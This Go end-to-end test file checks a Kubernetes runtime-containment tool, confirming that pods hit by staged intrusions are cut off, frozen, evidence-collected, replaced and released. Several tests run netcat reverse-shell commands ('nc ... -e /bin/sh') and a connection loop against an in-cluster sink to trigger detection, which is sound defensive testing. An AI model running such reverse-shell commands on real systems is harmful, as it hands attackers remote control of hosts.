package e2e

import (
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"seawall.io/seawall"
)

// besieged is a service with an attacker's loop to be started in one of its pods: what it
// says through connections and writes to a file can be counted.
const besieged = `
apiVersion: v1
kind: Service
metadata: {name: NAME, namespace: NS}
spec: {selector: {app: NAME}, ports: [{port: 80, targetPort: 8080}]}
---
apiVersion: apps/v1
kind: Deployment
metadata: {name: NAME, namespace: NS}
spec:
  replicas: 2
  selector: {matchLabels: {app: NAME}}
  template:
    metadata: {labels: {app: NAME}}
    spec:
      terminationGracePeriodSeconds: 0
      containers:
        - name: main
          image: IMAGE
          command: [sh, -c, "mkdir -p /www; hostname > /www/index.html; exec httpd -f -p 8080 -h /www"]
          readinessProbe: {httpGet: {port: 8080}, periodSeconds: 1}
          volumeMounts: [{name: count, mountPath: /count}]
      volumes: [{name: count, emptyDir: {}}]
---
# It keeps what connects to it, a line each.
apiVersion: v1
kind: Pod
metadata: {name: NAME-sink, namespace: NS, labels: {app: NAME-sink}}
spec:
  terminationGracePeriodSeconds: 0
  containers:
    - {name: main, image: IMAGE, command: [python3, -u, -c, "import socket\ns = socket.create_server(('0.0.0.0', 9000))\nwhile True:\n  c, a = s.accept()\n  f = open('/tmp/n', 'a'); f.write(a[0] + chr(10)); f.close(); c.close()"]}
`

// intruderLoop is what it runs: a connection and a line, a hundred times a second.
const intruderLoop = `
import os, socket, time
n = open("/count/n", "ab", 0)
while True:
    try: socket.create_connection(("SINK", 9000), 1).close()
    except OSError: pass
    n.write(b"x"); time.sleep(0.01)`

func named(text, name, ns string) []byte {
	return []byte(strings.NewReplacer("NAME", name, "NS", ns, "IMAGE", victimImage).Replace(text))
}

// endpoints are the addresses behind a Service.
func (a *api) endpoints(t *testing.T, ns, service string) (out []string) {
	t.Helper()
	answer := a.call(t, http.MethodGet, "/apis/discovery.k8s.io/v1/namespaces/"+ns+"/endpointslices?labelSelector=kubernetes.io/service-name="+service, "", nil)
	var list struct {
		Items []struct {
			Endpoints []struct {
				Addresses  []string
				Conditions struct{ Ready bool }
			}
		}
	}
	if err := json.Unmarshal(answer.body, &list); err != nil {
		t.Fatal(err)
	}
	for _, slice := range list.Items {
		for _, e := range slice.Endpoints {
			if e.Conditions.Ready {
				out = append(out, e.Addresses...)
			}
		}
	}
	slices.Sort(out)
	return out
}

// written is how much the intruder has written, read on the node: nobody answers
// inside of a frozen pod.
func (g *guard) written(t *testing.T, p podNow) int64 {
	t.Helper()
	for _, n := range g.nodes {
		if n.node == p.Spec.NodeName {
			info, err := os.Stat(filepath.Join(n.dir, "kubelet", "pods", p.Metadata.UID, "volumes", "kubernetes.io~empty-dir", "count", "n"))
			if err != nil {
				return 0
			}
			return info.Size()
		}
	}
	t.Fatalf("pod %s runs on node %q", p.Metadata.Name, p.Spec.NodeName)
	return 0
}

// arrived is how many connections the sink has had of an address.
func (g *guard) arrived(t *testing.T, ns, sink, ip string) int {
	t.Helper()
	for range 10 {
		out, _ := g.exec(t, ns, sink, "main", "sh", "-c", "grep -c '^"+ip+"$' /tmp/n")
		// What a program says that ends at once may get lost on its way.
		if n, err := strconv.Atoi(strings.TrimSpace(out)); err == nil {
			return n
		}
	}
	return 0
}

// completed waits for an act whose steps are all taken.
func (g *guard) completed(t *testing.T, kind seawall.ActKind, ns, pod string, states ...seawall.ActState) *seawall.Act {
	t.Helper()
	var act *seawall.Act
	eventually(t, fmt.Sprintf("%s of %s/%s is %v", kind, ns, pod, states), func() bool {
		act = g.act(kind, ns, pod)
		return act != nil && slices.Contains(states, act.State)
	})
	return act
}

// TestRuntimeContain lets an attacker into one of two replicas: its pod must be cut
// off, frozen and replaced at once, and all that can be taken back.
func TestRuntimeContain(t *testing.T) {
	a, g := guarded(t)
	const ns = "contained"
	a.mustApply(t, namespace(ns, map[string]string{"seawall.io/runtime": "contain"}))
	a.mustApply(t, named(besieged, "web", ns))
	pods := a.readyPods(t, ns, "app=web", 2)
	sink := a.readyPods(t, ns, "app=web-sink", 1)[0]
	eventually(t, "the Service has both pods", func() bool { return len(a.endpoints(t, ns, "web")) == 2 })
	bad, good := pods[0], pods[1]
	name := bad.Metadata.Name

	// The intruder is at work.
	if out, err := g.exec(t, ns, name, "main", "sh", "-c", "python3 -c '"+strings.ReplaceAll(intruderLoop, "SINK", sink.Status.PodIP)+"' > /dev/null 2>&1 &"); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	eventually(t, "the intruder writes and connects", func() bool {
		return g.written(t, bad) > 20 && g.arrived(t, ns, sink.Metadata.Name, bad.Status.PodIP) > 20
	})
	before := g.written(t, bad)

	// It opens a shell for somebody elsewhere.
	began := time.Now()
	_, _ = g.exec(t, ns, name, "main", "sh", "-c", "timeout 5 nc "+sink.Status.PodIP+" 9000 -e /bin/sh > /dev/null 2>&1 &")
	act := g.completed(t, seawall.Contain, ns, name, seawall.ActDone, seawall.ActHeld)
	if act.State != seawall.ActDone || !strings.HasPrefix(act.By, "check ") || act.Alert == "" {
		t.Fatalf("the act is %+v", act)
	}
	for _, step := range []string{"cut", "freeze", "evidence", "policy", "labels", "replacement"} {
		if s := act.Step(step); s == nil || !s.Done {
			t.Errorf("step %s: %+v", step, s)
		}
	}
	var alert *heard
	for _, h := range g.alertsOf(ns, name, "main") {
		if h.ID == act.Alert {
			alert = h
		}
	}
	if alert == nil {
		t.Fatalf("alert %s, which the act answers, was not heard", act.Alert)
	}
	cut, freeze, replacement := act.Step("cut"), act.Step("freeze"), act.Step("replacement")
	t.Logf("from the attacker's act: cut %v, frozen %v, evidence %v, replacement ready %v; the whole took %v",
		cut.Time.Add(cut.Took).Sub(alert.Event.Time), freeze.Time.Add(freeze.Took).Sub(alert.Event.Time),
		act.Step("evidence").Time.Add(act.Step("evidence").Took).Sub(alert.Event.Time), replacement.Time.Add(replacement.Took).Sub(alert.Event.Time), time.Since(began))

	// Nothing moves in the pod any more, and nothing comes out.
	size, count := g.written(t, bad), g.arrived(t, ns, sink.Metadata.Name, bad.Status.PodIP)
	time.Sleep(time.Second)
	if again := g.written(t, bad); again != size {
		t.Errorf("the contained pod still writes: %d and then %d bytes", size, again)
	}
	if again := g.arrived(t, ns, sink.Metadata.Name, bad.Status.PodIP); again != count {
		t.Errorf("the contained pod still connects: %d and then %d times", count, again)
	}
	t.Logf("the intruder wrote %d bytes before its shell, %d when it was frozen; %d connections arrived", before, size, count)

	// Its labels are away and kept, a clean copy serves, the other replica never stopped.
	var held podNow
	for _, p := range a.pods(t, ns, "seawall.io/isolated=true") {
		if p.Metadata.Name == name {
			held = p
		}
	}
	if held.Metadata.Labels["app"] != "" || !strings.Contains(held.Metadata.Annotations["seawall.io/labels"], `"app":"web"`) {
		t.Errorf("the contained pod has the labels %v, annotations %v", held.Metadata.Labels, held.Metadata.Annotations)
	}
	now := a.readyPods(t, ns, "app=web", 2)
	if !slices.ContainsFunc(now, func(p podNow) bool {
		return p.Metadata.Name == good.Metadata.Name && p.Status.ContainerStatuses[0].RestartCount == 0
	}) {
		t.Errorf("the other replica did not stay as it was: %+v", now)
	}
	if !strings.Contains(replacement.Detail, "of the same image") {
		t.Errorf("the replacement: %s", replacement.Detail)
	}
	eventually(t, "the Service has let go of the pod", func() bool {
		ends := a.endpoints(t, ns, "web")
		return len(ends) == 2 && !slices.Contains(ends, bad.Status.PodIP) && slices.Contains(ends, good.Status.PodIP)
	})

	// The evidence tells what happened.
	file := filepath.Join(t.TempDir(), "evidence.tar.zst")
	if out := seawallCommand(t, "evidence", name, "-n", ns, "--file", file, "--kubeconfig", shared.kubeconfig); out.code != 0 {
		t.Errorf("seawall evidence: exit %d: %s", out.code, out.stderr)
	}
	if info, err := os.Stat(file); err != nil || info.Size() < 1024 {
		t.Errorf("the evidence: %v %v", info, err)
	}

	// All of it can be taken back.
	if out := seawallCommand(t, "release", name, "-n", ns, "--reason", "the test is over", "--kubeconfig", shared.kubeconfig); out.code != 0 {
		t.Fatalf("seawall release: exit %d: %s%s", out.code, out.stdout, out.stderr)
	}
	eventually(t, "one replica too many is ended", func() bool { return len(a.pods(t, ns, "app=web")) == 2 })
	if left := a.pods(t, ns, "seawall.io/isolated=true"); len(left) > 0 {
		t.Errorf("after the release %d pods are isolated", len(left))
	}
}

// natures are pods of each kind of owner, and what isolating each has to say.
const natures = `
apiVersion: apps/v1
kind: StatefulSet
metadata: {name: db, namespace: NS}
spec:
  serviceName: db
  selector: {matchLabels: {app: db}}
  template:
    metadata: {labels: {app: db}}
    spec: {terminationGracePeriodSeconds: 0, containers: [{name: main, image: IMAGE}]}
---
apiVersion: apps/v1
kind: DaemonSet
metadata: {name: node, namespace: NS}
spec:
  selector: {matchLabels: {app: node}}
  template:
    metadata: {labels: {app: node}}
    spec: {terminationGracePeriodSeconds: 0, containers: [{name: main, image: IMAGE}]}
---
apiVersion: batch/v1
kind: Job
metadata: {name: once, namespace: NS}
spec:
  template:
    metadata: {labels: {app: once}}
    spec: {restartPolicy: Never, terminationGracePeriodSeconds: 0, containers: [{name: main, image: IMAGE}]}
---
apiVersion: v1
kind: Pod
metadata: {name: bare, namespace: NS, labels: {app: bare}}
spec: {terminationGracePeriodSeconds: 0, containers: [{name: main, image: IMAGE}]}
`

// TestRuntimeIsolate isolates a pod of each kind of owner by command, and gives each
// back.
func TestRuntimeIsolate(t *testing.T) {
	a, g := guarded(t)
	const ns = "natures"
	a.mustApply(t, namespace(ns, nil))
	a.mustApply(t, named(natures, "", ns))
	static := filepath.Join(g.nodes[0].dir, "manifests", "static.yaml")
	manifest := string(named(`
apiVersion: v1
kind: Pod
metadata: {name: static, namespace: NS, labels: {app: static}}
spec: {terminationGracePeriodSeconds: 0, containers: [{name: main, image: IMAGE}]}
`, "", ns))
	if err := os.WriteFile(static, []byte(manifest), 0o600); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.Remove(static) })
	for _, tt := range []struct {
		app, labels string // what the step says
		replaced    bool
		keeps       bool
		proposal    string
	}{
		{"db", "once the pod is deleted", false, false, "kubectl delete pod"},
		{"node", "starts another", true, false, "seawall release"},
		{"once", "kept: Job/once counts its pods", false, true, "backoffLimit"},
		{"bare", "no controller starts another", false, false, "seawall release"},
		{"static", "mirror of a static pod", false, true, "staticPodPath"},
	} {
		t.Run(tt.app, func(t *testing.T) {
			n := 1
			if tt.app == "node" {
				n = 2
			}
			pod := a.readyPods(t, ns, "app="+tt.app, n)[0]
			name := pod.Metadata.Name
			if out := seawallCommand(t, "isolate", name, "-n", ns, "--reason", "a test", "--kubeconfig", shared.kubeconfig); out.code != 0 {
				t.Fatalf("seawall isolate: exit %d: %s%s", out.code, out.stdout, out.stderr)
			}
			act := g.completed(t, seawall.Contain, ns, name, seawall.ActDone)
			for _, step := range []string{"cut", "freeze", "evidence", "labels"} {
				if s := act.Step(step); s == nil || !s.Done {
					t.Errorf("step %s: %+v", step, s)
				}
			}
			if s := act.Step("labels"); s != nil && !strings.Contains(s.Detail, tt.labels) {
				t.Errorf("labels: %s, want %q", s.Detail, tt.labels)
			}
			if s := act.Step("replacement"); tt.replaced != (s != nil && s.Done) {
				t.Errorf("replacement: %+v", s)
			}
			if !slices.ContainsFunc(act.Proposals, func(p string) bool { return strings.Contains(p, tt.proposal) }) {
				t.Errorf("proposed: %q", act.Proposals)
			}
			if still := len(a.pods(t, ns, "app="+tt.app)) > n-1; !tt.replaced && still != tt.keeps {
				t.Errorf("has its labels: %t, want %t", still, tt.keeps)
			}
			if out := seawallCommand(t, "release", name, "-n", ns, "--kubeconfig", shared.kubeconfig); out.code != 0 {
				t.Fatalf("seawall release: exit %d: %s%s", out.code, out.stdout, out.stderr)
			}
			// A DaemonSet may end the released pod or its replacement.
			a.readyPods(t, ns, "app="+tt.app, n)
			if tt.replaced {
				return
			}
			if out, err := g.exec(t, ns, name, "main", "true"); err != nil {
				t.Errorf("after the release: %v %s", err, out)
			}
		})
	}
}

// TestRuntimeAlone contains an attacker while the API server is away, and looks at
// what is done once it is back.
func TestRuntimeAlone(t *testing.T) {
	a, g := guarded(t)
	const ns = "alone"
	a.mustApply(t, namespace(ns, map[string]string{"seawall.io/runtime": "contain"}))
	a.mustApply(t, named(besieged, "web", ns))
	bad := a.readyPods(t, ns, "app=web", 2)[0]
	sink := a.readyPods(t, ns, "app=web-sink", 1)[0]
	// The attack is in place before, since nobody can be let in without the API server.
	trigger := fmt.Sprintf("echo > /count/n; while [ ! -e /count/go ]; do sleep 0.1; done; nc %s 9000 -e /bin/sh", sink.Status.PodIP)
	if out, err := g.exec(t, ns, bad.Metadata.Name, "main", "sh", "-c", "("+trigger+") > /dev/null 2>&1 &"); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	eventually(t, "the attack is in place", func() bool { return g.written(t, bad) > 0 })
	post := g.post(t, ns, bad.Metadata.Name)

	stop(t, "apiserver", syscall.SIGSTOP)
	resumed := false
	resume := func() {
		if !resumed {
			resumed = true
			stop(t, "apiserver", syscall.SIGCONT)
		}
	}
	t.Cleanup(resume)
	path := filepath.Join(post.dir, "kubelet", "pods", bad.Metadata.UID, "volumes", "kubernetes.io~empty-dir", "count", "go")
	if err := os.WriteFile(path, nil, 0o600); err != nil {
		t.Fatal(err)
	}
	eventually(t, "the pod is cut and frozen without the API server", func() bool {
		act := g.act(seawall.Contain, ns, bad.Metadata.Name)
		return act != nil && act.Step("cut") != nil && act.Step("cut").Done && act.Step("freeze") != nil && act.Step("freeze").Done
	})
	if act := g.act(seawall.Contain, ns, bad.Metadata.Name); act.State != seawall.ActRunning {
		t.Errorf("without the API server the act is %s", act.State)
	}
	resume()
	act := g.completed(t, seawall.Contain, ns, bad.Metadata.Name, seawall.ActDone)
	if s := act.Step("replacement"); s == nil || !s.Done {
		t.Errorf("the replacement: %+v", s)
	}
	if out := seawallCommand(t, "release", bad.Metadata.Name, "-n", ns, "--kubeconfig", shared.kubeconfig); out.code != 0 {
		t.Errorf("seawall release: exit %d: %s%s", out.code, out.stdout, out.stderr)
	}
}

// stop sends a signal to a daemon of the cluster.
func stop(t *testing.T, daemon string, signal syscall.Signal) {
	t.Helper()
	if err := syscall.Kill(daemonPID(t, daemon), signal); err != nil {
		t.Fatalf("%s: %v", daemon, err)
	}
}

func daemonPID(t *testing.T, daemon string) int {
	t.Helper()
	text, err := os.ReadFile(filepath.Join(filepath.Dir(shared.kubeconfig), "pid", daemon))
	if err != nil {
		t.Fatal(err)
	}
	pid, err := strconv.Atoi(strings.TrimSpace(string(text)))
	if err != nil || pid <= 1 {
		t.Fatalf("%s is process %q", daemon, text)
	}
	return pid
}

// TestRuntimeHeld attacks the only replica of a service: to contain it would do the
// attacker's work, so that a person decides.
func TestRuntimeHeld(t *testing.T) {
	a, g := guarded(t)
	const ns = "held"
	a.mustApply(t, namespace(ns, map[string]string{"seawall.io/runtime": "contain"}))
	a.mustApply(t, named(strings.Replace(besieged, "replicas: 2", "replicas: 1", 1), "web", ns))
	name := a.readyPods(t, ns, "app=web", 1)[0].Metadata.Name
	sink := a.readyPods(t, ns, "app=web-sink", 1)[0]
	_, _ = g.exec(t, ns, name, "main", "sh", "-c", "timeout 5 nc "+sink.Status.PodIP+" 9000 -e /bin/sh > /dev/null 2>&1 &")
	act := g.completed(t, seawall.Contain, ns, name, seawall.ActHeld, seawall.ActDone)
	if act.State != seawall.ActHeld || !strings.Contains(act.Held, "no other pod of Deployment/web is ready") || len(act.Steps) > 0 {
		t.Fatalf("the act is %s, held since %q, steps %+v", act.State, act.Held, act.Steps)
	}
	if out, err := g.exec(t, ns, name, "main", "sh", "-c", "nc -w 5 "+sink.Status.PodIP+" 9000 < /dev/null"); err != nil {
		t.Errorf("the pod that was left alone cannot connect: %v %s", err, out)
	}
	if len(act.Proposals) != 1 || !strings.HasPrefix(act.Proposals[0], "seawall isolate "+name+" -n "+ns) {
		t.Fatalf("proposed: %q", act.Proposals)
	}
	out := seawallCommand(t, "alerts", "--acts", "-n", ns, "--kubeconfig", shared.kubeconfig)
	if out.code != 0 || !strings.Contains(out.stdout, name) {
		t.Errorf("seawall alerts --acts: exit %d: %s%s", out.code, out.stdout, out.stderr)
	}
	if out := seawallCommand(t, "isolate", name, "-n", ns, "--kubeconfig", shared.kubeconfig); out.code != 0 {
		t.Errorf("seawall isolate: exit %d: %s%s", out.code, out.stdout, out.stderr)
	}
	if act := g.completed(t, seawall.Contain, ns, name, seawall.ActDone); act.Step("replacement") == nil || !act.Step("replacement").Done {
		t.Errorf("the replacement: %+v", act.Steps)
	}
	if out := seawallCommand(t, "release", name, "-n", ns, "--kubeconfig", shared.kubeconfig); out.code != 0 {
		t.Errorf("seawall release: exit %d: %s%s", out.code, out.stdout, out.stderr)
	}
}
